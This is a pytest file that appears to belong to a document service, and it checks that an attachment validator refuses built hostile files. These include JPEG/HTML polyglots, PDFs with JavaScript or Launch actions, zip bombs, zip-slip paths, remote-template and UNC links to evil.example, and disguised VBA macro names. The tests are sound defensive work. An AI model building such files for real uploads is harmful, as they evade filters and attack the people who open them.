"""Finding 8 of issue 9: the attachment checks accepted a JPEG/HTML polyglot,
``%PDF-<html>...%%EOF``, a PDF with /OpenAction JavaScript, a .docx zip bomb
declaring 1,000 bytes that inflates to 1 GiB, a nested zip, zip-slip entry
names, a remote attachedTemplate and ``word/VBAPROJECT.BIN `` with a trailing
space; a 200 KB .docx took 470 MB to check.

Rule (docs/attachments.md): an attachment is accepted only when its parsed
content is a well-formed JPEG, PDF or Office file without active content,
macros, embedded files, nested archives or external links, and checking it
takes bounded memory whatever it declares. Every file of the corpus below is
built here; each is refused with the reason the rule gives, and real small
files of each type are still accepted. The memory and time bounds are in
``test_attachment_memory.py``.
"""

from __future__ import annotations

import contextlib
import io
import random
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from davdrive import demo_files, filetypes, records
from davdrive.attachments import attach, open_uploads
from davdrive.errors import AttachmentsRefused
from davdrive.filetypes import FileTypeRefused, check_attachment
from davdrive.models import Attachment
from davdrive.runtime import Runtime
from tests.unit.bad_attachments import (
    WORD_MAIN,
    content_types,
    docx,
    docx_with_zeros,
    jpeg_with_segment,
    object_stream,
    patch_central,
    pdf,
    pptx,
    relationships,
    stream,
    xlsx,
    zip_of,
)

JPEG = demo_files.JPEG_1X1
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
URI_ACTION = b"<< /S /URI /URI (http://evil.example/track) >>"
MIB = 1024 * 1024
VBA_TYPE = "application/vnd.ms-office.vbaProject"


def refusal(data: bytes, name: str) -> str:
    """The refusal message for ``data`` named ``name``; fails if it is accepted."""
    with pytest.raises(FileTypeRefused) as refused:
        check_attachment(io.BytesIO(data), name)
    return str(refused.value)


def settings_rels(*rels: tuple[str, str, str]) -> dict[str, bytes | str]:
    return {"word/_rels/settings.xml.rels": relationships(*rels),
            "word/settings.xml": "<w:settings xmlns:w='urn:w'/>"}


BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
                  '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Relationships>&b;'
                  "</Relationships>")

# name -> (builder, a fragment the refusal must contain)
CORPUS: dict[str, tuple[Callable[[], bytes], str]] = {
    # JPEG: markers walked SOI..EOI, nothing after EOI, no markup in metadata
    "html-after-eoi.jpg": (lambda: JPEG + HTML, "data follows the end of the image"),
    "zip-after-eoi.jpg": (lambda: JPEG + docx(), "data follows the end of the image"),
    "html-in-comment.jpg": (lambda: jpeg_with_segment(0xFE, HTML),
                            "metadata holds HTML or script"),
    "script-in-exif.jpg": (lambda: jpeg_with_segment(0xE1, b"Exif\0\0<SCRIPT src=//x.example>"),
                           "metadata holds HTML or script"),
    "cut-before-eoi.jpg": (lambda: JPEG[:-2], "structure is broken"),
    "no-image-data.jpg": (lambda: b"\xff\xd8\xff\xd9", "structure is broken"),
    "segment-past-end.jpg": (lambda: b"\xff\xd8\xff\xe0\x7f\xffJFIF", "structure is broken"),
    # PDF: header at 0, %%EOF at the end, no active or embedded content
    "html-header.pdf": (lambda: b"%PDF-<html>" + HTML + b"\n%%EOF\n",
                        "does not start with a PDF header"),
    "html-after-eof.pdf": (lambda: pdf() + HTML, "does not end with %%EOF"),
    "open-action-js.pdf": (lambda: pdf(JS_ACTION, catalog=b"/OpenAction 4 0 R"),
                           "(/JavaScript)"),
    "open-action-uri.pdf": (lambda: pdf(URI_ACTION, catalog=b"/OpenAction 4 0 R"),
                            "(/OpenAction)"),
    "open-action-goto-next.pdf": (lambda: pdf(b"<< /S /GoTo /D [3 0 R /Fit] /Next "
                                              + URI_ACTION + b" >>",
                                              catalog=b"/OpenAction 4 0 R"), "(/OpenAction)"),
    "open-action-redefined.pdf": (lambda: pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>",
                                              catalog=b"/OpenAction 4 0 R")
                                  + b"4 0 obj\n" + URI_ACTION + b"\nendobj\n%%EOF\n",
                                  "(/OpenAction)"),
    "open-action-in-object-stream.pdf": (lambda: pdf(object_stream(
        5, b"<< /Type /Catalog /OpenAction 6 0 R >> " + URI_ACTION),
        catalog=b"/Names 5 0 R"), "(/OpenAction)"),
    "open-action-dictionary.pdf": (lambda: pdf(catalog=b"/OpenAction << /S /Launch "
                                                     b"/F (calc.exe) >>"), "(/OpenAction)"),
    "javascript-name-tree.pdf": (lambda: pdf(b"<< /JavaScript 5 0 R >>",
                                             b"<< /Names [(a) 6 0 R] >>", JS_ACTION,
                                             catalog=b"/Names 4 0 R"), "(/JavaScript)"),
    "launch.pdf": (lambda: pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                               b"/A << /S /Launch /F (calc.exe) >> >>"), "(/Launch)"),
    "embedded-file.pdf": (lambda: pdf(stream(b"MZ\x90\x00", b"/Type /EmbeddedFile")),
                          "(/EmbeddedFile)"),
    "additional-actions.pdf": (lambda: pdf(catalog=b"/AA << /WC " + JS_ACTION + b" >>"),
                               "(/AA)"),
    "rich-media.pdf": (lambda: pdf(b"<< /Type /Annot /Subtype /RichMedia >>"),
                       "(/RichMedia)"),
    "xfa-form.pdf": (lambda: pdf(b"<< /Fields [] /XFA 5 0 R >>", stream(b"<xdp/>"),
                                 catalog=b"/AcroForm 4 0 R"), "(/XFA)"),
    "hex-escaped-open-action.pdf": (lambda: pdf(catalog=b"/Open#41ction " + URI_ACTION),
                                    "(/OpenAction)"),
    "hex-escaped-javascript.pdf": (lambda: pdf(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
                                   "(/JavaScript)"),
    "js-in-object-stream.pdf": (lambda: pdf(object_stream(
        5, b"<< /JavaScript << /Names [(a) " + JS_ACTION + b"] >> >>"),
        catalog=b"/Names 5 0 R"), "(/JavaScript)"),
    "escaped-filter-object-stream.pdf": (lambda: pdf(object_stream(
        5, b"<< /S /J#61vaScript /JS (x) >>", b"/Filter [/Fl#61teDecode]")), "(/JavaScript)"),
    "plain-object-stream.pdf": (lambda: pdf(object_stream(5, b"<< /JS (x) >>", b"",
                                                          deflate=False)), "(/JS)"),
    "unchecked-filter-object-stream.pdf": (lambda: pdf(object_stream(
        5, b"<< /JS (x) >>".hex().encode() + b">", b"/Filter /ASCIIHexDecode", deflate=False)),
        "an encoding that cannot be checked"),
    "object-stream-bomb.pdf": (lambda: pdf(stream(zlib.compress(bytes(20 * MIB), 9),
                                                  b"/Type /ObjStm /N 1 /First 4 "
                                                  b"/Filter /FlateDecode")),
                               "inflate to more than"),
    "object-inside-stream-data.pdf": (lambda: pdf(stream(
        b"9 0 obj\n" + JS_ACTION + b"\nendobj\n", b"/Filter /FlateDecode"),
        catalog=b"/Names 9 0 R"), "holds an object definition"),
    "stream-hiding-objects.pdf": (lambda: pdf(stream(b"q\nendstream\nendobj\n9 0 obj\n<< >>")),
                                  "a stream holds its own end marker"),
    # OOXML: real sizes, no nested archives, safe names, no external links, no macros
    "ratio-bomb.docx": (lambda: docx_with_zeros("word/media/blank.bin", 8 * MIB),
                        "compressed more than 100 to 1"),
    "nested-zip.docx": (lambda: docx({"word/embeddings/inner.zip": zip_of({"a.txt": "x"})}),
                        "nested archives are refused"),
    "nested-zip-named-as-image.docx": (
        lambda: docx({"word/media/image2.jpeg": zip_of({"a.txt": "x"})}),
        "is a ZIP archive"),
    "nested-ole-object.docx": (lambda: docx({"word/embeddings/oleObject1.bin":
                                             filetypes.OLE_MAGIC + bytes(504)}),
                               "is an OLE2 object"),
    "nested-rar.docx": (lambda: docx({"word/media/a.bin": b"Rar!\x1a\x07\x01\x00"}),
                        "is a RAR archive"),
    "nested-7z.docx": (lambda: docx({"word/media/a.bin": b"7z\xbc\xaf\x27\x1c\x00\x04"}),
                       "is a 7-Zip archive"),
    "several-main-parts.docx": (lambda: docx({"xl/workbook.xml": "<workbook/>"}),
                                "not a Word, Excel or PowerPoint document"),
    # the first raw occurrence of a part name is its local header (the rest is deflated)
    "local-name-differs.docx": (lambda: docx().replace(b"word/document.xml",
                                                       b"word/documenT.xml", 1),
                                "has two different names"),
    "wrong-crc.docx": (lambda: patch_central(docx(), "word/document.xml", 16, 0x1234),
                       "is corrupt (size or CRC)"),
    "encrypted-entry.docx": (lambda: patch_central(docx(), "word/document.xml", 8, 1, "<H"),
                             "is encrypted"),
    "bzip2-entry.docx": (lambda: patch_central(docx(), "word/document.xml", 10, 12, "<H"),
                         "uses an unusual compression"),
    "overlapping-entries.docx": (lambda: patch_central(
        docx(), "[Content_Types].xml", 20, 4000), "overlaps another"),
    "huge-rels.docx": (lambda: docx(document_rels=relationships()
                                    + random.Random(8).randbytes(3 * MIB).hex()),
                       "too large to check"),
    "slip-parent.docx": (lambda: docx({"../../evil.xml": "<x/>"}), "a '..' or '.' step"),
    "slip-inner-parent.docx": (lambda: docx({"word/../../evil.xml": "<x/>"}),
                               "a '..' or '.' step"),
    "slip-absolute.docx": (lambda: docx({"/etc/cron.d/evil": "x"}), "an absolute path"),
    "slip-backslash.docx": (lambda: docx({"word\\..\\..\\evil.xml": "<x/>"}), "a backslash"),
    "slip-drive.docx": (lambda: docx({"C:/Windows/evil.xml": "<x/>"}), "a drive letter"),
    "slip-drive-relative.docx": (lambda: docx({"C:evil.xml": "<x/>"}), "a drive letter"),
    "twin-names.docx": (lambda: docx({"Word/Document.xml": "<x/>"}), "appears twice"),
    "remote-template.docx": (lambda: docx(settings_rels(
        ("attachedTemplate", "http://evil.example/t.dotm", "External"))),
        "loads attachedTemplate from outside the file"),
    "remote-image.docx": (lambda: docx(document_rels=relationships(
        ("image", "http://evil.example/pixel.png", "External"))),
        "loads image from outside the file"),
    "unc-hyperlink.docx": (lambda: docx(document_rels=relationships(
        ("hyperlink", "file://///evil.example/share/x.exe", "External"))),
        "loads hyperlink from outside the file"),
    "external-ole-link.docx": (lambda: docx(document_rels=relationships(
        ("oleObject", "\\\\evil.example\\share\\a.xlsx", "external"))),
        "loads oleObject from outside the file"),
    "macro-trailing-space.docx": (lambda: docx({"word/VBAPROJECT.BIN ": b"\0" * 64}),
                                  "holds VBA macros"),
    "macro-lower-case.docx": (lambda: docx({"word/vbaproject.bin": b"\0" * 64}),
                              "holds VBA macros"),
    "macro-other-folder.docx": (lambda: docx({"customXml/vbaProject.bin": b"\0" * 64}),
                                "holds VBA macros"),
    "macro-fullwidth.docx": (lambda: docx({"word/ｖｂａＰｒｏｊｅｃｔ.bin": b"\0" * 64}),
                             "holds VBA macros"),
    "macro-vba-data.docx": (lambda: docx({"word/vbaData.xml": "<x/>"}), "holds VBA macros"),
    "macro-renamed-bin.docx": (lambda: docx({"word/stuff.bin": b"\0" * 64}, types=content_types(
        ("word/document.xml", WORD_MAIN), ("word/stuff.bin", VBA_TYPE))),
        "holds macros or ActiveX controls"),
    "macro-default-bin.docx": (lambda: docx({"word/stuff.bin": b"\0" * 64}, types=content_types(
        ("word/document.xml", WORD_MAIN), defaults=(("bin", VBA_TYPE),))),
        "holds macros or ActiveX controls"),
    "macro-enabled-main.docx": (lambda: docx(types=content_types(
        ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))),
        "holds macros or ActiveX controls"),
    "excel4-macro-sheet.docx": (lambda: docx({"word/m.xml": "<x/>"}, types=content_types(
        ("word/document.xml", WORD_MAIN),
        ("word/m.xml", "application/vnd.ms-excel.macrosheet+xml"))),
        "holds macros or ActiveX controls"),
    "activex.docx": (lambda: docx({"word/activeX/activeX1.xml": "<x/>"}, types=content_types(
        ("word/document.xml", WORD_MAIN),
        ("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"))),
        "holds macros or ActiveX controls"),
    "entities-in-rels.docx": (lambda: docx(document_rels=BILLION_LAUGHS),
                              "is not plain, well-formed XML"),
}


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_each_bad_attachment_is_refused_with_its_reason(name: str) -> None:
    build, reason = CORPUS[name]
    message = refusal(build(), name)
    assert repr(name) in message, message
    assert reason in message, f"the refusal should say {reason!r}: {message}"
    assert "Allowed:" in message


GOOD = {
    "demo.jpg": lambda: JPEG,
    "zero-padded.jpg": lambda: JPEG + bytes(64),
    "two-scans.jpg": lambda: JPEG[:-2] + JPEG[JPEG.index(b"\xff\xda"):],  # progressive-like
    "restart-marker-and-fill.jpg": lambda: JPEG[:-2] + b"\xff\xd0\x00\xff\xff" + JPEG[-2:],
    "with-xmp.jpg": lambda: jpeg_with_segment(
        0xE1, b"http://ns.adobe.com/xap/1.0/\0<?xpacket begin='' id='W5M0'?><x:xmpmeta "
              b"xmlns:x='adobe:ns:meta/'><rdf:RDF/></x:xmpmeta><?xpacket end='w'?>"),
    "with-comment.jpg": lambda: jpeg_with_segment(0xFE, b"Taken at the 2026 fair <3"),
    "demo.pdf": lambda: demo_files.pdf_with_text("Minutes"),
    "open-at-page.pdf": lambda: pdf(catalog=b"/OpenAction [3 0 R /Fit]"),
    "open-at-referenced-page.pdf": lambda: pdf(b"[3 0 R /Fit]", catalog=b"/OpenAction 4 0 R"),
    "open-with-goto.pdf": lambda: pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>",
                                      catalog=b"/OpenAction 4 0 R"),
    "open-with-goto-in-object-stream.pdf": lambda: pdf(object_stream(
        5, b"<< /S /GoTo /D [3 0 R /Fit] >>"), catalog=b"/OpenAction 5 0 R"),
    "names-inside-data.pdf": lambda: pdf(stream(b"\x00/JS /AA /OpenAction \xff\x00")),
    "clean-object-stream.pdf": lambda: pdf(object_stream(
        5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")),
    "photo-and-link.docx": docx,
    "sheet-and-link.xlsx": xlsx,
    "slide-with-photo.pptx": pptx,
    "mail-link.docx": lambda: docx(document_rels=relationships(
        ("hyperlink", "mailto:board@example.org", "External"))),
}


@pytest.mark.parametrize("name", sorted(GOOD))
def test_real_small_files_of_each_type_are_still_accepted(name: str) -> None:
    expected = Path(name).suffix.lstrip(".").replace("jpg", "jpeg")
    assert check_attachment(io.BytesIO(GOOD[name]()), name).key == expected


def test_attaching_a_polyglot_to_a_record_stores_nothing(
    session: Session, runtime: Runtime, tmp_path: Path
) -> None:
    """``davdrive record attach`` of the finding's JPEG/HTML polyglot: refused, all or nothing."""
    record = records.add_record(session, "member", "Dupont")
    session.commit()
    photo = tmp_path / "photo.jpg"
    photo.write_bytes(JPEG + HTML)
    card = tmp_path / "card.pdf"
    card.write_bytes(demo_files.pdf_with_text("Card"))
    with pytest.raises(AttachmentsRefused) as refused, open_uploads([card, photo]) as uploads:
        attach(session, runtime.blobs, record, uploads)
    assert [name for name, _ in refused.value.refusals] == ["photo.jpg"]
    assert "'photo.jpg'" in str(refused.value) and "end of the image" in str(refused.value)
    session.rollback()
    assert session.scalar(select(func.count()).select_from(Attachment)) == 0


@pytest.mark.parametrize("cut", [1, 10, 100])
def test_a_docx_with_bytes_cut_out_of_its_first_entry_is_refused_not_crashed(cut: int) -> None:
    """The central directory then points before the file's start: refused, never a 500."""
    data = docx()
    refusal(data[:40] + data[40 + cut:], "cut.docx")


FUZZED = sorted([*GOOD, *(n for n in CORPUS if "bomb" not in n and "huge" not in n)])


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_damaged_corpus_files_only_ever_raise_the_refusal(data: st.DataObject) -> None:
    """No damage to a corpus file makes the check fail otherwise than with a refusal
    (anything else would be a 500 where attachments come in over HTTP)."""
    name = data.draw(st.sampled_from(FUZZED))
    sample = bytearray(GOOD[name]() if name in GOOD else CORPUS[name][0]())
    for _ in range(data.draw(st.integers(1, 8))):
        at = data.draw(st.integers(0, len(sample)))
        action = data.draw(st.sampled_from(["set", "insert", "delete"]))
        if action == "set" and at < len(sample):
            sample[at] = data.draw(st.integers(0, 255))
        elif action == "insert":
            sample[at:at] = data.draw(st.binary(min_size=1, max_size=8))
        else:
            del sample[at:at + data.draw(st.integers(1, 16))]
    with contextlib.suppress(FileTypeRefused):
        check_attachment(io.BytesIO(bytes(sample)), name)
